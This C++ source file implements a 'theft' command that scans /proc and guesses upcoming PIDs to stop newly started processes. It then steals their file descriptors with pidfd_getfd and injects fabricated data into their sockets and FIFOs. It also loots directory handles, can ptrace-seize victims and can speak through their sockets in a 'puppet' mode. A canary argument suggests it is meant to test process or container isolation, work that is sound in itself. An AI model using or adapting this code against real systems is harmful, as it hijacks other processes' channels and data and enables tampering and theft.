// `theft SECONDS LIE CANARY [STOP-MILLISECONDS]`: takes every descriptor of every newborn and of
// every init that waits (pidfd_getfd(2), which needs SYS_PTRACE or an equal standing) and does with
// each socket and FIFO what LIE says (lies.cpp). With a time each newborn is first stopped, as
// early as it can be met, and goes on after that time.
#include "lies.hpp"
#include "thief.hpp"

#include <algorithm>
#include <cstdlib>
#include <map>
#include <set>
#include <utility>

#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

namespace thief {
namespace {

bool is_socket(int fd) {
    struct stat status {};
    return fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode);
}

struct Victim {
    Newborn who;
    int times = 0;
    double stopped = 0;
};

class Thief {
  public:
    Thief(const std::string& lie, int stop_ms)
        : lies_(lie), puppet_(lie == "puppet"), keeps_(lie == "keep"), stop_ms_(stop_ms) {}

    void go_round() {
        for (const auto& name : list("/proc"))
            if (const auto pid = static_cast<pid_t>(std::strtol(name.c_str(), nullptr, 10));
                pid > 0)
                meet(pid);
        if (stop_ms_ > 0) ambush();
        let_go();
        lies_.go_on();
    }

  private:
    /// Whoever has been stopped goes on: at once, or as a newborn in its time. A program that its
    /// own container stops for ever would be no news.
    void meet(pid_t pid, bool is_stopped = false) {
        newest_ = std::max(newest_, pid);
        Newborn who;
        // A stop that came during execve(2) is the program's.
        if (!is_newborn(pid, who)) {
            if (is_stopped) kill(pid, SIGCONT);
            return;
        }
        auto& victim = victims_[who.key];
        victim.who = who;
        // What it holds changes on its way to the gate: thrice.
        const bool is_robbed = victim.times++ < 3;
        if (!is_stopped && is_robbed && stop_ms_ > 0 && victim.stopped == 0)
            is_stopped = kill(pid, SIGSTOP) == 0;
        if (is_stopped) victim.stopped = now();
        if (is_robbed) rob(victim);
    }
    /// The next numbers are where the next process will appear: try them before /proc shows them.
    void ambush() {
        for (int tries = 0; tries < 300; ++tries)
            for (pid_t pid = newest_ + 1; pid <= newest_ + 4; ++pid)
                if (kill(pid, SIGSTOP) == 0) return meet(pid, true);
    }
    void let_go() {
        for (auto& [key, victim] : victims_)
            if (victim.stopped > 0 && (now() - victim.stopped) * 1000 > stop_ms_) {
                kill(victim.who.pid, SIGCONT);
                victim.stopped = -1;
            }
    }
    void rob(const Victim& victim) {
        const auto who = std::to_string(victim.who.pid) + " " + victim.who.name;
        // Never waited for: when it has ended, it stays a zombie that nobody else can reap.
        if (keeps_ && ptrace(PTRACE_SEIZE, victim.who.pid, nullptr, nullptr) == 0)
            say("GOT a seat in " + who);
        const int process = open_process(victim.who.pid);
        if (process < 0) return;
        constexpr int kMost = 64;
        bool any = false;
        std::vector<int> sockets;
        for (int number = 3; number < kMost; ++number) {
            const int fd = steal(process, number);
            if (fd < 0) continue;
            any = true;
            if (is_socket(fd)) sockets.push_back(number);
            use(fd, "descriptor " + std::to_string(number) + " of " + who);
        }
        close(process);
        if (puppet_ && !sockets.empty()) speak_through(victim.who.pid, sockets);
        say((any ? "TRIED " : "TRIED in vain ") + who);
    }
    void use(int fd, const std::string& whose) {
        struct stat status {};
        if (fstat(fd, &status) != 0) return;
        // Its sockets and FIFOs once: what is said twice is another lie.
        const bool is_channel = S_ISSOCK(status.st_mode) || S_ISFIFO(status.st_mode);
        if (!seen_.insert({status.st_dev, status.st_ino}).second && is_channel) {
            close(fd);
            return;
        }
        say("GOT " + whose + ": " + describe(fd));
        if (S_ISSOCK(status.st_mode)) return lies_.to_socket(fd, whose);
        if (S_ISFIFO(status.st_mode)) return lies_.to_fifo(fd, whose);
        if (S_ISDIR(status.st_mode)) loot_folder(fd, whose);
        close(fd);
    }

    Lies lies_;
    bool puppet_;
    bool keeps_;
    int stop_ms_;
    pid_t newest_ = 0;
    std::map<std::string, Victim> victims_;
    std::set<std::pair<dev_t, ino_t>> seen_;
};

}  // namespace

int theft(const Arguments& arguments) {
    if (arguments.size() < 3) {
        say("usage: theft SECONDS LIE CANARY [STOP-MILLISECONDS]");
        return 2;
    }
    set_canary(arguments[2]);
    Thief thief{arguments[1], arguments.size() > 3 ? std::atoi(arguments[3].c_str()) : 0};
    say("ready");
    const double end = now() + std::strtod(arguments[0].c_str(), nullptr);
    while (now() < end)
        thief.go_round();
    return 0;
}

}  // namespace thief
